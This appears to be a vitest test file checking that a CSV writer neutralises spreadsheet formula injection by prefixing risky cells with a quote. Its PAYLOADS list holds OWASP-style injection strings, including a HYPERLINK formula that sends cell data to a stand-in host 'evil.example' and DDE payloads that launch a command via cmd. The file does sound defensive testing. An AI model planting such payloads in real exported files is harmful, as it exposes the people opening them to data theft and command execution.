import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../../src/app/csv.ts';

/** OWASP's formula-leading characters, each with a payload a spreadsheet would run. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

describe('writeCsv', () => {
  it.each(PAYLOADS)('never writes a cell that starts a formula: %j', (payload) => {
    const [header, row] = cellsOf(writeCsv(['title', 'n'], [[payload, 1]]));
    expect(header).toEqual(['title', 'n']);
    expect(row![0]).toBe(`'${payload}`);
  });

  it('keeps ordinary text, numbers (negative ones too) and empty cells as they are', () => {
    const rows = cellsOf(writeCsv(['a', 'b', 'c', 'd'], [['St Mary’s, "Upper" school', -1.5, null, 'a=b']]));
    expect(rows[1]).toEqual(['St Mary’s, "Upper" school', '-1.5', '', 'a=b']);
  });

  it('neutralises a formula in the header as well', () => {
    expect(cellsOf(writeCsv(['=1+1'], []))[0]).toEqual(["'=1+1"]);
  });
});
